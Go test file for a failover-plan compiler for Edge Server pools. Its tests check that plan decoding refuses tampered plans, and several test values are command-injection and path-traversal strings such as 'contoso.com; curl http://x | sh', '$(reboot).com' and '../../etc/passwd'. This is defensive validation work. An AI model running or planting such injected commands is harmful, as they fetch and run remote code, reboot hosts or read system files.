package compiler

import (
	"bytes"
	"encoding/json"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/edgeplan/edgeplan/compiler/cmdlet"
	"github.com/edgeplan/edgeplan/compiler/plan"
	"github.com/edgeplan/edgeplan/compiler/procedure"
	"github.com/edgeplan/edgeplan/parser"
)

// seed returns the plan of the procedure's own example.
func seed(t *testing.T) *plan.Plan {
	t.Helper()
	return planOf(t, "seed", "contoso.edge.hcl")
}

func planOf(t *testing.T, name string, files ...string) *plan.Plan {
	t.Helper()
	spec, _, diags := parser.Load(os.DirFS("../specs/"+name), files)
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	plans, diags := Compile(spec)
	if len(plans) != 1 || diags.HasErrors() {
		t.Fatalf("%d plans, %v", len(plans), diags)
	}
	return plans[0]
}

func stageOf(t *testing.T, stages []plan.Stage, name string) *plan.Stage {
	t.Helper()
	for i := range stages {
		if stages[i].Name == name {
			return &stages[i]
		}
	}
	t.Fatalf("no stage %s", name)
	return nil
}

func swap(stages []plan.Stage, a, b int) { stages[a], stages[b] = stages[b], stages[a] }

// partOf is the first part of a stage.
func partOf(t *testing.T, stages []plan.Stage, name string) *plan.Part {
	t.Helper()
	return &stageOf(t, stages, name).Parts[0]
}

// free takes out what parts need, so that other mistakes show.
func free(stages []plan.Stage) {
	for i := range stages {
		for k := range stages[i].Parts {
			stages[i].Parts[k].Needs = nil
		}
	}
}

// prove is of use only if it fails on plans that are wrong.
func TestProveFindsMistakes(t *testing.T) {
	tests := []struct {
		name  string
		spoil func(t *testing.T, p *plan.Plan)
		want  string
	}{
		{"start before route", func(t *testing.T, p *plan.Plan) { swap(p.Stages, 2, 5) }, "runs before"},
		{"route before stop", func(t *testing.T, p *plan.Plan) { swap(p.Stages, 1, 2) }, "runs before"},
		{"a need that is not there", func(t *testing.T, p *plan.Plan) { partOf(t, p.Stages, plan.Stop).Needs = []string{"Lunch"} }, "which is not there"},
		{"route while a server runs", func(t *testing.T, p *plan.Plan) {
			free(p.Stages)
			swap(p.Stages, 1, 2)
		}, "still runs"},
		{"services stay stopped", func(t *testing.T, p *plan.Plan) { partOf(t, p.Stages, plan.Start).Steps = nil }, "stopped replica"},
		{"records forgotten", func(t *testing.T, p *plan.Plan) { partOf(t, p.Stages, plan.DNS).Zones = nil }, "was asked"},
		{"wrong address", func(t *testing.T, p *plan.Plan) { p.Zones[0].Records[0].New = []string{"192.0.2.1"} }, "leads to"},
		{"SRV to the old pool", func(t *testing.T, p *plan.Plan) {
			last := &p.Zones[0].Records[len(p.Zones[0].Records)-1]
			last.New = []string{"0 0 5269 sip1.contoso.com."}
		}, "does not lead to"},
		{"route to another pool", func(t *testing.T, p *plan.Plan) {
			partOf(t, p.Stages, plan.Route).Steps[0].Effect.Value = "other.contoso.com"
		}, "finds route/Site2"},
		{"a route that is not there", func(t *testing.T, p *plan.Plan) {
			partOf(t, p.Stages, plan.Route).Steps[0].Effect.Var = "route/Site9"
		}, "which is not there"},
		{"rollback forgets the route", func(t *testing.T, p *plan.Plan) { partOf(t, p.Rollback, plan.Route).Steps = nil }, "does not restore"},
		{"DNS is not asked", func(t *testing.T, p *plan.Plan) { partOf(t, p.Stages, plan.Preflight).LooksAt = nil }, "step stop/services on EdgeServer2.contoso.com runs before the server of zone contoso.com was asked"},
		{"DNS is not asked on the way back", func(t *testing.T, p *plan.Plan) { partOf(t, p.Rollback, plan.Route).LooksAt = nil }, "step rollback/route/Site2 on fe2.corp.contoso.com runs before the server of zone contoso.com was asked"},
		{"rollback forgets the services", func(t *testing.T, p *plan.Plan) { partOf(t, p.Rollback, plan.Start).Steps = nil }, "stopped replica"},
		{"rollback forgets the records", func(t *testing.T, p *plan.Plan) {
			partOf(t, p.Rollback, plan.Route).Steps[0].Effect.AsksDNS = false
			free(p.Rollback)
			p.Rollback = slices.DeleteFunc(p.Rollback, func(s plan.Stage) bool { return s.Name == plan.DNS })
		}, "does not restore"},
		{"a number for two facts", func(t *testing.T, p *plan.Plan) {
			for _, s := range plan.AllSteps(p.Stages) {
				if s.ID == "P12" {
					s.ID = "P03"
				}
			}
		}, `the fact P03 is "pool servers" and "subordinate CAs in the trusted roots"`},
		{"a number of a set for a fact", func(t *testing.T, p *plan.Plan) {
			partOf(t, p.Stages, plan.Preflight).Steps[0].ID = "P21"
		}, "the fact P21 is"},
		{"nobody confirms the port", func(t *testing.T, p *plan.Plan) { partOf(t, p.Stages, plan.Firewall).Steps = nil }, "is not confirmed"},
	}
	for _, test := range tests {
		t.Run(test.name, func(t *testing.T) {
			of := seed(t)
			test.spoil(t, of)
			if err := plan.Prove(of); err == nil || !strings.Contains(err.Error(), test.want) {
				t.Errorf("prove says %v, want %q", err, test.want)
			}
		})
	}
}

// TestEveryStepHasUndo: what changes something is taken back by the step of the rollback with its
// ID, but for services that ran before; IDs are unlike, and steps complete.
func TestEveryStepHasUndo(t *testing.T) {
	for _, p := range []*plan.Plan{seed(t), planOf(t, "all-routed", "spec.edge.hcl"), planOf(t, "start-first", "spec.edge.hcl"), planned(t), planOf(t, "windows-dns", "spec.edge.hcl"),
		planOf(t, "sip", "contoso.edge.hcl"), planOf(t, "sip-planned", "spec.edge.hcl"), planOf(t, "both", "spec.edge.hcl")} {
		back := plan.AllSteps(p.Rollback).IDs()
		for _, stages := range [][]plan.Stage{p.Stages, p.Rollback} {
			seen := map[string]bool{}
			for _, step := range plan.AllSteps(stages) {
				if seen[step.ID] {
					t.Errorf("two steps %s", step.ID)
				}
				seen[step.ID] = true
				if step.Source.Procedure == "" || step.Origin.File == "" || step.Origin.Line == 0 || step.Says == "" || step.Risk == "" {
					t.Errorf("%s is not complete: %+v", step.ID, *step)
				}
			}
		}
		for _, step := range plan.AllSteps(p.Stages) {
			if undone := slices.Contains(back, "rollback/"+step.ID); step.Risk != plan.Safe && undone == (step.ID == "start/services") {
				t.Errorf("%s, %s: in the rollback: %v", step.ID, step.Risk, undone)
			}
		}
	}
}

func TestOutage(t *testing.T) {
	var got []string
	for _, r := range seed(t).Outage {
		state := r.After
		for _, s := range []plan.Service{r.Of(plan.XMPPFederation), r.Of("remote access")} {
			if s.Up {
				state += " " + s.Through
			} else {
				state += " -"
			}
		}
		got = append(got, state)
	}
	want := []string{" - EdgePool2", "Preflight - EdgePool2", "Stop - -", "Route - -", "Dns - -", "Firewall - -", "Start - EdgePool2", "Replicate EdgePool2 EdgePool2", "Verify EdgePool2 EdgePool2"}
	if !plan.SameSet(got, want) {
		t.Errorf("got  %q\nwant %q", got, want)
	}
}

func TestDecodeRefuses(t *testing.T) {
	text, err := plan.Encode(seed(t))
	if err != nil {
		t.Fatal(err)
	}
	tests := []struct{ name, old, new, want string }{
		{"other version", `"format_version": 3`, `"format_version": 4`, "format version 4"},
		{"the version before", `"format_version": 3`, `"format_version": 2`, "format version 2"},
		{"unknown field", `"spec_digest"`, `"spec_digits"`, "spec_digits"},
		{"another host", `"fe2.corp.contoso.com"`, `"fe3.corp.contoso.com"`, "has been edited"},
		{"another cmdlet", `"cmdlet": "Stop-CsWindowsService"`, `"cmdlet": "Stop-Computer"`, "has been edited"},
		{"another address", `"198.51.100.21"`, `"198.51.100.22"`, "has been edited"},
		{"no JSON", `{`, `<`, "not a plan"},
	}
	for _, test := range tests {
		spoilt := strings.Replace(string(text), test.old, test.new, 1)
		if spoilt == string(text) {
			t.Errorf("%s: %q is not in the plan", test.name, test.old)
		}
		if _, err := procedure.Decode([]byte(spoilt)); err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: %v, want %q", test.name, err, test.want)
		}
	}
	if _, err := procedure.Decode(append(text, '{')); err == nil {
		t.Error("text after the plan is taken")
	}
	for _, name := range []string{"", ".", "..", "../../evil", `..\evil`, "/etc", "C:", "a/b", "nul", "COM1.txt", "plan.json", "x.rehearsal", "dot.", "a b", "ä", "\x1b[2J", strings.Repeat("n", 65)} {
		p := seed(t)
		p.Name = name
		p.ID = plan.Identify(p)
		text, _ := plan.Encode(p)
		if _, err := procedure.Decode(text); err == nil || !strings.Contains(err.Error(), "cannot be the name of a plan") {
			t.Errorf("a plan named %q: %v", name, err)
		}
	}
}

// sound is an included file that does not change.
func sound(name string) plan.ZoneFile {
	sum := strings.Repeat("0a", 32)
	return plan.ZoneFile{File: name, OldSHA256: sum, NewSHA256: sum}
}

// A plan whose ID fits but whose parts do not is refused before anything is emitted.
func TestDecodeRefusesShape(t *testing.T) {
	tests := []struct {
		name  string
		spoil func(t *testing.T, p *plan.Plan)
		want  string
	}{
		{"no stages", func(_ *testing.T, p *plan.Plan) { p.Stages = nil }, "stage Preflight is missing"},
		{"no rollback", func(_ *testing.T, p *plan.Plan) { p.Rollback = nil }, "stage Start is missing"},
		{"a stage more", func(_ *testing.T, p *plan.Plan) { p.Stages = append(p.Stages, p.Stages[0]) }, "that it does not have"},
		{"zone that is not there", func(_ *testing.T, p *plan.Plan) { p.Zones = []plan.Zone{} }, "not those of its procedure"},
		{"a route less", func(_ *testing.T, p *plan.Plan) { p.Routes = nil }, "no route is set"},
		{"a route of no site", func(_ *testing.T, p *plan.Plan) { p.Routes[0].Site = "" }, "there twice or out of order"},
		{"a route from a command", func(_ *testing.T, p *plan.Plan) { p.Routes[0].From = "$(reboot).com" }, "no host name"},
		{"a route from no server", func(_ *testing.T, p *plan.Plan) { p.Routes[0].FromServer = "" }, "comes from"},
		{"a next hop that is a command", func(_ *testing.T, p *plan.Plan) { p.To.NextHop = "$x" }, "no host name"},
		{"a port that there is not", func(_ *testing.T, p *plan.Plan) { p.To.XMPPInternalPort = 65536 }, "no port"},
		{"wrong order", func(_ *testing.T, p *plan.Plan) { swap(p.Stages, 1, 2) }, "stage Stop is missing or has another place"},
		{"a partner without a name", func(_ *testing.T, p *plan.Plan) { p.Partners = []string{""} }, "partners"},
		{"a partner twice", func(_ *testing.T, p *plan.Plan) { p.Partners = []string{"a.example", "A.example"} }, "twice"},
		{"a Front End Server that is a command", func(_ *testing.T, p *plan.Plan) { p.FrontEnds = []string{"$(reboot).contoso.com"} }, "front_ends"},
		{"a Front End Server twice", func(_ *testing.T, p *plan.Plan) { p.FrontEnds = []string{"fe.example", "FE.example"} }, "twice"},
		{"an Edge Server as a Front End Server", func(_ *testing.T, p *plan.Plan) { p.FrontEnds = p.To.Servers }, "is an Edge Server"},
		{"the management host once more", func(_ *testing.T, p *plan.Plan) { p.FrontEnds = []string{strings.ToUpper(p.ManagementHost)} }, "the management host"},
		{"a Front End Server that no step waits for", func(_ *testing.T, p *plan.Plan) { p.FrontEnds = []string{"fe.example"} }, "not those of its procedure"},
		{"domains out of order", func(_ *testing.T, p *plan.Plan) { p.Domains = []string{"b.example", "a.example"} }, "order"},
		{"an included file twice", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Included = []plan.ZoneFile{sound("a"), sound("a")} }, "there twice"},
		{"the zone file included", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Included = []plan.ZoneFile{sound(p.Zones[0].File)} }, "there twice"},
		{"a file elsewhere", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Included = []plan.ZoneFile{sound("../a")} }, "cannot be an included file"},
		{"a file with an empty path", func(_ *testing.T, p *plan.Plan) {
			p.Zones[0].Included = []plan.ZoneFile{{File: "a", Paths: []string{""}}}
		}, "an empty path"},
		{"a file without a sum", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Included = []plan.ZoneFile{{File: "a"}} }, "no SHA-256"},
		{"a file without a way back", func(_ *testing.T, p *plan.Plan) {
			file := sound("a")
			file.Hunks = p.Zones[0].Hunks
			p.Zones[0].Included = []plan.ZoneFile{file}
		}, "only in part"},
		{"a partner that is a command", func(_ *testing.T, p *plan.Plan) { p.Partners = []string{"contoso.com; curl http://x | sh"} }, "partners"},
		{"a domain that is a command", func(_ *testing.T, p *plan.Plan) { p.Domains = []string{"contoso.com; curl http://x | sh"} }, "domains"},
		{"a zone that is a command", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Name = "$(reboot).com" }, "no name of a zone"},
		{"a server that is a command", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Server = "192.0.2.53; reboot" }, "no server"},
		{"a management host that is a command", func(_ *testing.T, p *plan.Plan) { p.ManagementHost = "fe2.contoso.com; reboot" }, "no host name"},
		{"an XMPP host that is a command", func(_ *testing.T, p *plan.Plan) { p.XMPPHost = "xmpp.contoso.com; reboot" }, "no host name"},
		{"an Edge Server that is a command", func(_ *testing.T, p *plan.Plan) { p.To.Servers[0] = "$(reboot).contoso.com" }, "no host name"},
		{"an address that is a command", func(_ *testing.T, p *plan.Plan) { p.From.IPv4 = []string{"203.0.113.1; reboot"} }, "no address"},
		{"a zone file elsewhere", func(_ *testing.T, p *plan.Plan) { p.Zones[0].File = "../../etc/passwd" }, "cannot be the zone file"},
		{"a zone file of the root", func(_ *testing.T, p *plan.Plan) { p.Zones[0].File = "/etc/passwd" }, "cannot be the zone file"},
		{"another reason", func(_ *testing.T, p *plan.Plan) { p.Reason = "whim" }, "reason"},
		{"another procedure", func(_ *testing.T, p *plan.Plan) { p.Procedure = "" }, "procedure"},
		{"other sites", func(_ *testing.T, p *plan.Plan) { p.RouteSites = "some" }, "route_sites"},
		{"another delivery", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Delivery = "post" }, "no delivery"},
		{"a checksum that is a command", func(_ *testing.T, p *plan.Plan) { p.Zones[0].OldSHA256 = "$(reboot)" }, "no SHA-256"},
		{"no checksum after the change", func(_ *testing.T, p *plan.Plan) { p.Zones[0].NewSHA256 = "" }, "no SHA-256"},
		{"a file that does not change", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Hunks = nil }, "without its files"},
		{"a serial that stays", func(_ *testing.T, p *plan.Plan) { p.Zones[0].NewSerial = p.Zones[0].OldSerial }, "do not rise"},
		{"a serial that goes back", func(_ *testing.T, p *plan.Plan) { p.Zones[0].RollbackSerial = p.Zones[0].NewSerial - 1 }, "do not rise"},
		{"a serial that is not the zone's", func(_ *testing.T, p *plan.Plan) { p.Zones[0].OldSerial-- }, "does not have the serial"},
		{"a zone without hunks", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Hunks = nil }, "without"},
		{"no wait", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Wait = plan.Wait{} }, "waits for"},
		{"a shorter wait", func(_ *testing.T, p *plan.Plan) { p.Zones[0].Wait.Old-- }, "waits for"},
		{"the zone file as an included one", func(_ *testing.T, p *plan.Plan) {
			file := p.Zones[0].Files()[0]
			file.File = "a"
			p.Zones[0].Included = []plan.ZoneFile{file}
		}, "the zone file itself"},
		{"no outage", func(_ *testing.T, p *plan.Plan) { p.Outage = nil }, "outage"},
		{"less outage", func(_ *testing.T, p *plan.Plan) { p.Outage[3].Services[1].Up = true }, "outage"},
		{"another service", func(_ *testing.T, p *plan.Plan) { p.Services[0].Title = "coffee" }, "services"},
		{"a service less", func(_ *testing.T, p *plan.Plan) { p.Services = p.Services[:2] }, "services"},
		{"an outage without services", func(_ *testing.T, p *plan.Plan) { p.Outage[0].Services = nil }, "outage"},
		{"earliest missing", func(_ *testing.T, p *plan.Plan) { p.Earliest = nil }, "earliest"},
		{"something else earlier", func(_ *testing.T, p *plan.Plan) { p.Earliest = []plan.Earliest{{What: "a", Zone: "b"}} }, "earliest"},
		{"in doubt and up", func(_ *testing.T, p *plan.Plan) {
			p.Outage[0].Services[0].Service = plan.Service{Up: true, InDoubt: true}
		}, "in doubt"},
	}
	for _, test := range tests {
		of := seed(t)
		test.spoil(t, of)
		of.ID = plan.Identify(of)
		text, err := plan.Encode(of)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := procedure.Decode(text); err == nil || !strings.Contains(err.Error(), test.want) {
			t.Errorf("%s: %v, want %q", test.name, err, test.want)
		}
	}
}

// Whatever is edited in the stages of a plan is refused, with the ID that fits: a call runs
// without a question where a read is, so each step is the one that the procedure makes.
func TestDecodeRefusesStages(t *testing.T) {
	for name, spoil := range map[string]func(p *plan.Plan){
		"another read":       func(p *plan.Plan) { stepOf(p, "P03").Read.Name = "Stop-CsWindowsService" },
		"another pool":       func(p *plan.Plan) { stepOf(p, "P03").Read.Params[0].Value = "edge9.contoso.com" },
		"another value":      func(p *plan.Plan) { stepOf(p, "P01").Check.Want[0] = "fepool9.corp.contoso.com" },
		"another comparison": func(p *plan.Plan) { stepOf(p, "P02").Check.Match = plan.Like },
		"only a warning":     func(p *plan.Plan) { stepOf(p, "P09").Check.Warn = true },
		"no store":           func(p *plan.Plan) { p.CentralManagement = "" },
		"another backup":     func(p *plan.Plan) { stepOf(p, "preflight/backup-sites").Act.File = "../config.zip" },
		"another cmdlet":     func(p *plan.Plan) { stepOf(p, "stop/services").Act.Set.Name = "Start-CsWindowsService" },
		"one service": func(p *plan.Plan) {
			stepOf(p, "stop/services").Act.Set.Params = []cmdlet.Param{cmdlet.Arg("Name", "RTCSRV")}
		},
		"another site":        func(p *plan.Plan) { stepOf(p, "route/Site2").Act.Variants[0].Set.Params[0].Value = "Site9" },
		"another port":        func(p *plan.Plan) { stepOf(p, "verify/xmpp/198.51.100.21").Read.Params[1].Value = "443" },
		"another ID":          func(p *plan.Plan) { stepOf(p, "verify/xmpp/198.51.100.21").ID = "verify/sip" },
		"certificates expire": func(p *plan.Plan) { stepOf(p, "P14").Read.Params[0].Value = "2001-01-01T00:00:00Z" },
		"no gate":             func(p *plan.Plan) { p.Stages[2].Parts[0].Needs = nil },
		"another host":        func(p *plan.Plan) { p.Stages[2].Parts[0].Hosts = []string{"fe3.corp.contoso.com"} },
		"nothing again":       func(p *plan.Plan) { p.Stages[len(p.Stages)-1].Parts[1].LooksAt = nil },
		"a part less":         func(p *plan.Plan) { last := &p.Stages[len(p.Stages)-1]; last.Parts = last.Parts[:1] },
		"a part more":         func(p *plan.Plan) { last := &p.Stages[len(p.Stages)-1]; last.Parts = append(last.Parts, last.Parts[0]) },
		"a step less":         func(p *plan.Plan) { part := &p.Stages[0].Parts[0]; part.Steps = part.Steps[1:] },
		"a step more":         func(p *plan.Plan) { part := &p.Stages[0].Parts[0]; part.Steps = append(part.Steps, part.Steps[0]) },
	} {
		of := seed(t)
		spoil(of)
		of.ID = plan.Identify(of)
		text, err := plan.Encode(of)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := procedure.Decode(text); err == nil || !strings.Contains(err.Error(), "are not those of its procedure") {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// stepOf finds a step of the change by its ID.
func stepOf(p *plan.Plan, id string) *plan.Step {
	for _, step := range plan.AllSteps(p.Stages) {
		if step.ID == id {
			return step
		}
	}
	return nil
}

// A preparation has steps about records only.
func TestDecodeRefusesPreparation(t *testing.T) {
	for _, spoil := range []func(p *plan.Plan){
		func(p *plan.Plan) { p.Kind = plan.KindPrepare },
		func(p *plan.Plan) { p.Kind, p.Reason, p.Procedure, p.RouteSites = plan.KindPrepare, "", "", "" },
		func(p *plan.Plan) {
			p.Kind, p.Reason, p.Procedure, p.RouteSites, p.From, p.To = plan.KindPrepare, "", "", "", plan.Pool{}, plan.Pool{}
		},
	} {
		of := seed(t)
		spoil(of)
		of.ID = plan.Identify(of)
		text, _ := plan.Encode(of)
		if _, err := procedure.Decode(text); err == nil {
			t.Error("a failover that calls itself a preparation is accepted")
		}
	}
}

// TestDecodeSpelling has plans that say the same to most readers of JSON, and the same ID.
func TestDecodeSpelling(t *testing.T) {
	text, err := plan.Encode(seed(t))
	if err != nil {
		t.Fatal(err)
	}
	for _, test := range []struct{ name, old, new string }{
		{"a key twice", `"name": "edgepool1`, `"name": "another", "name": "edgepool1`},
		{"a key twice, of a step", `"id": "stop/services"`, `"id": "x", "id": "stop/services"`},
		{"a key in other case", `"spec_digest"`, `"Spec_Digest"`},
		{"a key in other letters that fold alike", `"stages"`, `"ſtageſ"`},
		{"an escape", `"edgepool1`, `"\u0065dgepool1`},
		{"null for nothing", `"rollback": [`, `"partners": null, "rollback": [`},
		{"a field that is left out", `"procedure": "documented",`, ``},
		{"another place", `"kind": "failover",`, ``},
	} {
		spelt := strings.Replace(string(text), test.old, test.new, 1)
		if test.name == "another place" {
			spelt = strings.Replace(spelt, `"format_version": 1,`, `"kind": "failover", "format_version": 1,`, 1)
		}
		if spelt == string(text) {
			t.Errorf("%s: %q is not in the plan", test.name, test.old)
		}
		if _, err := procedure.Decode([]byte(spelt)); err == nil {
			t.Errorf("%s: taken", test.name)
		}
	}
	for name, spaced := range map[string]string{
		"CRLF": strings.ReplaceAll(string(text), "\n", "\r\n"), "no blanks": compact(text), "indented": "\n  " + string(text) + "\n\n",
	} {
		if _, err := procedure.Decode([]byte(spaced)); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
}

func compact(text []byte) string {
	var out bytes.Buffer
	if err := json.Compact(&out, text); err != nil {
		panic(err)
	}
	return out.String()
}

func FuzzDecode(f *testing.F) {
	spec, _, _ := parser.Load(os.DirFS("../specs/seed"), []string{"contoso.edge.hcl"})
	plans, _ := Compile(spec)
	text, _ := plan.Encode(plans[0])
	f.Add(text)
	f.Add([]byte(`{"format_version":2,"stages":[{"parts":[{"steps":[{"id":"route/x"}]}]}]}`))
	f.Fuzz(func(t *testing.T, data []byte) {
		p, err := procedure.Decode(data)
		if err != nil {
			return
		}
		again, err := plan.Encode(p)
		if err != nil || compact(again) != compact(data) {
			t.Errorf("it is written again as %s, %v", again, err)
		}
	})
}
